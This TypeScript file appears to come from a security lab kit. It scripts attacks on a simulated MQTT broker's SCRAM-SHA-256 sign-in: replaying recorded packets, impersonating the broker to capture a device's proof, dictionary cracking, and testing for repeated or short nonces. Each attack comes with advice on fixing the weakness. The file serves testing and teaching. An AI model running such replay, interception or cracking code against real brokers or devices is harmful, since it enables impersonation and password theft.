import {
  authPacket,
  commonPasswords,
  connectPacket,
  defineAttacks,
  hiddenVariant,
  inconclusive,
  type LabEvent,
  type LabWorld,
  reached,
  stopped,
  stopsAt,
  type Variant,
  variant,
} from '../../src/lab-kit/index.ts';

type Outcome = Awaited<ReturnType<Variant['run']>>;

const method = 'SCRAM-SHA-256';
const post = { actor: 'device:post-17', userName: 'post-17' };

/** One sign-in of the post as whoever taps its wire reads it: packets in hex, and the messages of SCRAM in them. */
interface Recording {
  said: readonly string[];
  clientFirst: string;
  challenge: string;
  clientFinal: string;
}

/** Null where the post could not sign in: then there is nothing to steal. */
function record(world: LabWorld): Recording | null {
  const events = world.events().filter(({ actor }) => actor === post.actor);
  const accepted = events.findLast(({ type }) => type === 'connect.accepted');
  const signIn = events.filter((event) => event.connectionId === accepted?.connectionId && isBefore(event, accepted));
  const said = signIn.flatMap((event) => (event.type === 'packet.received' ? [event.hex] : []));
  const asked = signIn.find((event) => event.type === 'authentication.challenged');
  const proven = signIn.find((event) => event.type === 'authentication.concluded');
  if (said.length === 0) return null;
  return {
    said,
    clientFirst: asked?.clientMessage ?? '',
    challenge: asked?.serverMessage ?? '',
    clientFinal: proven?.clientMessage ?? '',
  };
}

function isBefore(event: LabEvent, end: LabEvent | undefined): boolean {
  return end !== undefined && event.sequence < end.sequence;
}

/** Records the post, does something with it, and looks whether the broker takes the attacker for the post. */
function withRecording(use: (world: LabWorld, recording: Recording) => Promise<unknown>): Variant['run'] {
  return async (world) => {
    const recording = record(world);
    if (recording === null) return inconclusive('Post 17 could not sign in, so there was nothing to record.');
    await use(world, recording);
    return whoIsIn(world, post.userName);
  };
}

function whoIsIn(world: LabWorld, principal: string): Outcome {
  const mine = world.events().filter(({ actor }) => actor === 'attacker');
  const accepted = mine.some((event) => event.type === 'connect.accepted' && event.principal === principal);
  if (accepted) return reached('connect', `The broker answered CONNACK 0 and takes the attacker for ${principal}.`);
  const refused = mine.findLast((event) => event.type === 'connect.refused');
  if (refused) return stopped('connect', 'refused', refused.reason);
  return stopped('connect', 'closed', 'The broker ended the connection.');
}

/** Says the packets one by one, each after the answer to the one before. */
async function repeat(world: LabWorld, packets: readonly (string | Uint8Array)[], from = {}): Promise<void> {
  const wire = world.dial(from);
  for (const packet of packets) {
    wire.send(packet);
    await wire.packets();
  }
}

/** Asks until the broker says what it said to the post; few enough not to be slowed down. */
const triesMax = 8;

async function repeatUntilItFits(world: LabWorld, { said }: Recording): Promise<void> {
  for (let tries = 0; tries < triesMax; tries += 1) await repeat(world, said);
}

/** What the broker asks somebody who claims to be the post, without ever being answered; empty if it asks nothing. */
async function ask(world: LabWorld, nonce: string): Promise<string> {
  const wire = world.dial();
  const data = `n,,n=${post.userName},r=${nonce}`;
  wire.send(connectPacket({ clientId: `ask-${nonce}`, method, data }));
  await wire.packets();
  const challenges = world.events().filter((event) => event.type === 'authentication.challenged');
  wire.drop();
  return challenges.find(({ clientMessage }) => clientMessage === data)?.serverMessage ?? '';
}

async function askTogether(world: LabWorld, count: number): Promise<Outcome> {
  const ours = Array.from({ length: count }, (_, index) => `mine${index}-`);
  return judgeNonces(await Promise.all(ours.map(async (nonce) => partsOf(await ask(world, nonce), nonce).theirs)));
}

/** The broker’s part of a nonce, and what stands behind it. */
function partsOf(challenge: string, ours: string): { theirs: string; rest: string } {
  const [nonce = '', ...rest] = challenge.split(',');
  return { theirs: nonce.slice(`r=${ours}`.length), rest: rest.join(',') };
}

/** Plays the broker to the post, and keeps what it says. Its firmware checks all that can be checked of a challenge. */
async function deceive(world: LabWorld, challengeTo: (nonce: string) => string) {
  const kept = { clientFirst: '', challenge: '', clientFinal: '' };
  const trap = world.intercept('post-17', {
    forward: false,
    packet({ packetType, bytes }, connection) {
      const text = String.fromCharCode(...bytes);
      const [clientFirst, nonce] = /n,,n=post-17,r=([\w+/=]+)/.exec(text) ?? [];
      if (packetType === 'connect' && clientFirst !== undefined && nonce !== undefined) {
        Object.assign(kept, { clientFirst, challenge: challengeTo(nonce) });
        connection.toDevice(authPacket({ method, data: kept.challenge }));
      } else {
        kept.clientFinal = /c=[\w+/=]+,r=[^,]+,p=[\w+/=]+/.exec(text)?.[0] ?? '';
        connection.close();
      }
      return [];
    },
  });
  await world.restartDevice('post-17');
  trap.stop();
  return kept;
}

/**
 * Foretells the next challenge, has the post answer it before the broker ever gives it, and then brings the broker the
 * answer. The client nonce is new to the broker.
 */
function foretell(next: (latest: string, before: string) => string): Variant['run'] {
  return async (world) => {
    const before = partsOf(await ask(world, 'one'), 'one');
    const latest = partsOf(await ask(world, 'two'), 'two');
    const told = next(latest.theirs, before.theirs);
    const { clientFirst, clientFinal } = await deceive(world, (nonce) => `r=${nonce}${told},${latest.rest}`);
    if (clientFinal === '') return inconclusive('Post 17 did not answer the challenge that was made up for it.');
    const opening = connectPacket({ clientId: 'post-17', method, data: clientFirst });
    await repeat(world, [opening, authPacket({ method, data: clientFinal })]);
    return whoIsIn(world, post.userName);
  };
}

function oneMore(latest: string, before: string): string {
  return Number(latest) - Number(before) === 1 ? String(Number(latest) + 1) : latest;
}

/** Carries an exchange of post 18, whose part the case takes, between it and the broker, and keeps the answer for a while. */
async function takeAlong(world: LabWorld): Promise<Outcome> {
  const scram = world.scram({ userName: 'post-18', password: world.secrets['post-18'] ?? '' });
  const wire = world.dial();
  wire.send(connectPacket({ clientId: 'post-18', method, data: scram.begin() }));
  await wire.packets();
  const asked = world.events().findLast((event) => event.type === 'authentication.challenged');
  const answer = await scram.respond(new TextEncoder().encode(asked?.serverMessage));
  await world.pass(90_000, 10_000);
  wire.send(authPacket({ method, data: answer }));
  await wire.packets();
  return whoIsIn(world, 'post-18');
}

/**
 * Compares an answer of the post with all words of the list. Only its password can fit, so that the words which are
 * nobody’s secret here are passed over: the same result as with all six thousand, at the price of a few.
 */
async function crack(world: LabWorld, heard: Omit<Recording, 'said'> | null): Promise<Outcome> {
  if (!heard?.clientFinal)
    return inconclusive('Post 17 proved its password to nobody, so there was nothing to compare.');
  const nonce = heard.clientFirst.slice(`n,,n=${post.userName},r=`.length);
  const secrets = new Set(Object.values(world.secrets));
  for (const password of commonPasswords.filter((word) => secrets.has(word))) {
    const guess = world.scram({ userName: post.userName, password, nonce });
    guess.begin();
    const answer = await guess.respond(new TextEncoder().encode(heard.challenge));
    if (new TextDecoder().decode(answer) === heard.clientFinal) {
      return reached('transport', 'A word of the list explains the answer of post 17: it is its password.');
    }
  }
  return stopped('transport', 'withheld', `None of ${commonPasswords.length} words explains the answer of post 17.`);
}

/** Characters of 18 octets in base64. */
const nonceCharactersMin = 24;

function judgeNonces(nonces: readonly string[]): Outcome {
  if (nonces.includes('')) return inconclusive('The broker gave no challenge.');
  const distinct = new Set(nonces).size;
  if (distinct < nonces.length) {
    return reached(
      'connect',
      `Of ${nonces.length} challenges ${distinct === 1 ? 'all are the same' : 'some are alike'}.`,
    );
  }
  const shortest = Math.min(...nonces.map(({ length }) => length));
  if (shortest < nonceCharactersMin) {
    return reached('connect', `A challenge has ${shortest} characters of the broker’s own: few enough to wait for it.`);
  }
  return stopped(
    'connect',
    'withheld',
    `${nonces.length} challenges, all different, each with ${shortest} characters.`,
  );
}

export default defineAttacks([
  {
    id: 'A1',
    title: 'Somebody else is post 17',
    objective: 'A2',
    goal: 'has a session in the name of a post, with nothing but what others have said.',
    stops: stopsAt(['connect'], ['refused', 'closed']),
    advice:
      'An answer that a post gave once still opens the broker. Ask of the challenge: is it new, could nobody know it before, and how long may it be answered? Ask this for the broker as it is after a restart, too.',
    variants: [
      variant(
        'replay',
        'by repeating a recorded sign-in byte for byte',
        withRecording((world, { said }) => repeat(world, said)),
      ),
      hiddenVariant(
        'thrice',
        'three times in a row',
        withRecording(async (world, { said }) => {
          for (let time = 0; time < 3; time += 1) await repeat(world, said);
        }),
      ),
      hiddenVariant(
        'a-minute-later',
        'when some time has passed',
        withRecording(async (world, { said }) => {
          await world.pass(60_000, 10_000);
          await repeat(world, said);
        }),
      ),
      hiddenVariant(
        'after-restart',
        'again and again after the broker was restarted',
        withRecording(async (world, recording) => {
          await world.restartBroker();
          await repeatUntilItFits(world, recording);
        }),
      ),
      hiddenVariant(
        'other-client-id',
        'under another ClientId',
        withRecording(async (world, { said, clientFirst, clientFinal }) => {
          const opening = connectPacket({ clientId: 'spare', method, data: clientFirst });
          await repeat(world, clientFinal === '' ? said : [opening, authPacket({ method, data: clientFinal })]);
        }),
      ),
      hiddenVariant(
        'from-inside',
        'from an address beside the post',
        withRecording((world, { said }) => repeat(world, said, { fromAddress: '10.23.17.99' })),
      ),
      hiddenVariant(
        'both-at-once',
        'on two connections that are open together',
        withRecording(async (world, { said }) => {
          const wires = [world.dial(), world.dial()];
          for (const packet of said) {
            for (const wire of wires) {
              wire.send(packet);
              await wire.packets();
            }
          }
        }),
      ),
      hiddenVariant(
        'foretold-same',
        'by letting the post answer what the broker said last',
        foretell((latest) => latest),
      ),
      hiddenVariant('foretold-next', 'by letting the post answer what the broker says next', foretell(oneMore)),
      hiddenVariant('taken-along', 'by keeping the answer of a post for a minute and a half', takeAlong),
    ],
  },
  {
    id: 'A2',
    title: 'Somebody guesses the password of post 17 at home',
    objective: 'A3',
    goal: 'learns the password of post 17 from one exchange and a list of words.',
    stops: [{ stage: 'transport', means: 'withheld' }],
    advice:
      'One exchange is enough to test guesses, as many as one likes, and nobody notices. No setting of the broker changes that; another password does, if it is on no list.',
    variants: [
      variant('words', 'by comparing a recorded sign-in with a list', (world) => crack(world, record(world))),
      hiddenVariant('asked', 'by asking the post in the broker’s place', async (world) =>
        crack(world, await deceive(world, (nonce) => `r=${nonce}ofTheAttacker,s=c2FsdCBvZiBoaXMgb3du,i=4096`)),
      ),
    ],
  },
  {
    id: 'A3',
    title: 'Somebody waits for a challenge that they know',
    goal: 'is given the same challenge twice, or one so short that it comes again.',
    stops: [{ stage: 'connect', means: 'withheld' }],
    advice:
      'Challenges repeat, or could be waited for. Eighteen random octets, 24 characters, never come again; whatever is counted, read off a clock, or shorter, does.',
    variants: [
      variant('fifty', 'by opening fifty connections', (world) => askTogether(world, 50)),
      hiddenVariant('pair', 'by opening two connections in the same instant', (world) => askTogether(world, 2)),
    ],
  },
]);
